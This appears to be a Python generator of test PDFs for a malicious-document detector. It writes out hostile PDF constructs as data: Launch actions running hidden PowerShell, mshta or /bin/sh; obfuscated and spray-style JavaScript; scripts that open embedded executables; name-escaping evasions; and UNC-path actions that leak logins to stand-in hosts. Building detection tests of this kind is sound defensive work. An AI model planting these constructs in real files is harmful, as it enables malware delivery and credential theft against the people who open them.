"""PDFs with active content, as Acrobat's own actions and known attack tools write it."""

from formats import pdf
from plain import plain, sample

CATALOG = "<</Type/Catalog/Pages 2 0 R{}>>"
PAGES = "<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>"


def document(extra, *objects, header=None):
    bodies = (CATALOG.format(extra), PAGES, PAGE, *objects)
    return pdf(*bodies) if header is None else pdf(*bodies, header=header)


def with_action(action, *objects):
    """The same action three ways: behind /OpenAction, as an additional action of the catalogue, in a late header."""
    yield document("/OpenAction 4 0 R", action, *objects)
    yield document("/AA<</WC 4 0 R>>", plain(action).replace("/S/", "/S /").replace("/Type/Action", "/Type /Action\n"), *objects)
    yield document("/OpenAction 4 0 R", action, *objects, header=b"junk before\n" * 20 + b"%PDF-1.3\n")


def hexed(text):
    return plain(text).encode().hex()


for action in (
    "<</Type/Action/S/Lau·nch/Win<</F(cm·d.exe)/P(/c power·shell -w hidden)>>>>",
    "<</Type/Action/S/Lau·nch/F(/C/Windows/System32/msh·ta.exe)/NewWindow true>>",
    "<</Type/Action/S/Lau·nch/Win<</F(invoice.pdf.exe)/D(c:\\\\temp)>>>>",
    f"<</Type/Action/S/Lau·nch/Win<</F<{hexed('cm·d.exe')}>/P<2f63>>>>>",
    "<</Type/Action/S/Lau·nch/Unix<</F(/bin/sh)/P(-c id)>>>>",
):
    sample("PDF_Launches_Program", *with_action(action))

SCRIPTS = ("app.alert\\('hello'\\);", "this.print\\(true\\);", "AFNumber_Format\\(2,0,0,0,'',true\\);")
for script in SCRIPTS:
    sample("PDF_JavaScript", *with_action(f"<</Type/Action/S/JavaScript/JS({script})>>"))

for script in (
    "var s=un·escape\\('%u9090%u9090'\\); while\\(s.length<9\\) s+=s; Collab.collect·EmailInfo\\({msg:s}\\);",
    "ev·al\\(this.info.title.replace\\(/x/g,'%'\\)\\);",
    "var a='';for\\(var i=0;i<b.length;i++\\)a+=String.from·CharCode\\(b[i]^7\\);ev·al\\(a\\);",
):
    sample("PDF_JavaScript_Hides_Code", *with_action(f"<</Type/Action/S/JavaScript/JS({script})>>"))

ATTACHED = ("<</Type/Filespec/F({0})/UF({0})/EF<</F 6 0 R>>>>", "<</Type/EmbeddedFile/Length 7>>\nstream\ncontent\nendstream")
for script in (
    "this.export·DataObject\\({ cName: 'a.doc', nLaunch: 2 }\\);",
    'this.export·DataObject\\({cName:"x",nLaunch:1}\\)',
    "this.export·DataObject\\({ cName : 'x', 'nLaunch' : 2}\\);",
):
    action = f"<</Type/Action/S/JavaScript/JS({script})>>"
    sample("PDF_Opens_Attachment", *with_action(action, ATTACHED[0].format("a.doc"), ATTACHED[1]))

NAMES = "/Names<</EmbeddedFiles<</Names[(a) 5 0 R]>>>>"
for name in ("setup.exe", "Invoice.PDF.js", "run.vbs", "image.iso", "a.lnk"):
    sample("PDF_Carries_Program", document(NAMES, "<<>>", ATTACHED[0].format(name), ATTACHED[1]))
wide = "/UF(\xfe\xff" + "".join("\0" + c for c in "setup.exe") + ")"
sample("PDF_Carries_Program", document(NAMES, "<<>>", "<</Type/Filespec" + wide + "/EF<</F 6 0 R>>>>", ATTACHED[1]))


def escaped(word, *places):
    return "".join(f"#{ord(c):02x}" if at in places else c for at, c in enumerate(word))


for word, write in (
    ("JavaScript", lambda name: document("/OpenAction 4 0 R", f"<</Type/Action/S/{name}/JS(app.alert\\(1\\))>>")),
    ("Launch", lambda name: document("/OpenAction 4 0 R", f"<</Type/Action/S/{name}/F(a.pdf)>>")),
    ("OpenAction", lambda name: document(f"/{name} 4 0 R", "<</S/GoTo/D[3 0 R/Fit]>>")),
    ("EmbeddedFile", lambda name: document(NAMES, "<<>>", ATTACHED[0].format("a.txt"), ATTACHED[1].replace("EmbeddedFile", name))),
    ("EmbeddedFiles", lambda name: document(NAMES.replace("EmbeddedFiles", name), "<<>>", "<<>>")),
):
    for places in ((0,), (1, 3), (len(word) - 1,), range(len(word))):
        sample("PDF_Hides_Names", write(escaped(word, *places)))
sample("PDF_Hides_Names", document("/OpenAction 4 0 R", "<</Type/Action/S/JavaScript/J#53(app.alert\\(1\\))>>"))

for action in (
    "<</Type/Action/S/GoToE/F(\\\\\\\\192.0.2.1\\\\share\\\\a.pdf)/D[0/Fit]>>",
    "<</Type/Action/S/GoToR/F(\\\\\\\\example.com\\\\x)/D[0/Fit]>>",
    "<</Type/Action/S/SubmitForm/F<</FS/URL/F(\\\\\\\\example.com\\\\x)>>>>",
):
    sample("PDF_Leaks_Login", *with_action(action))
